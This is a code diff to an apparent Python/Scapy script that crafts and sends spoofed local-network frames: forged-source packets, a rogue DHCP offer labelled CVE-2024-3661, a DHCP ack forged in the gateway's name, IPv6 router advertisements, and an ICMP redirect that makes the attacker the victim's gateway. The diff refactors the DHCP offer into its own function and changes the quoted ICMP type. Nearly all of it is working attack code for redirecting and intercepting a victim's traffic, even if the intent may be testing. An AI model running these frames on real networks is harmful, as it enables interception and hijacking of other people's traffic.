@@ -104,7 +104,7 @@ def names():
     yield "from a group", ether(gateway_mac) / ip(src="224.0.0.1") / udp(b"not mine")
     yield "from everyone", ether(gateway_mac) / ip(src="255.255.255.255") / udp(b"not mine")
     yield "from the victim's MAC", Ether(src=victim_mac, dst=gateway_mac) / ip(src=victim) / udp(b"not mine")
-    yield "a DHCP offer", ether(EVERYONE) / ip(dst="255.255.255.255") / UDP(sport=67, dport=68) / dhcp("offer", me)
+    yield from offer()
     yield "a DHCP grant in the gateway's name", (
         ether(victim_mac) / ip(src=gateway, dst=victim) / UDP(sport=67, dport=68) / dhcp("ack", gateway)
     )
@@ -130,15 +130,20 @@ def advertise():
     yield "an IPv6 router advertisement", advertisement()
 
 
+def offer():
+    """The attacker grants an address and is the router: CVE-2024-3661."""
+    yield "a DHCP offer", ether(EVERYONE) / ip(dst="255.255.255.255") / UDP(sport=67, dport=68) / dhcp("offer", me)
+
+
 def redirect():
     """The attacker is the better way to the world, says the gateway."""
-    quoted = IP(src=victim, dst="93.184.215.14", id=7) / ICMP(type=8) / Raw(b"quoted")
+    # About an answer to a ping: of anything else, the victim would look for the socket that has sent it.
+    quoted = IP(src=victim, dst="93.184.215.14", id=7) / ICMP(type=0) / Raw(b"quoted")
     yield "a redirect", ether(victim_mac) / ip(src=gateway, dst=victim) / ICMP(type=5, code=1, gw=me) / quoted
 
 
 mac = link.ins.getsockname()[4].hex(":")
 for title, frame in globals()[attack]():
-    octets = bytes(frame)
-    octets += bytes(60 - len(octets))
+    octets = bytes(frame).ljust(60, b"\0")
     link.send(Raw(octets))
     print(octets.hex(), title)
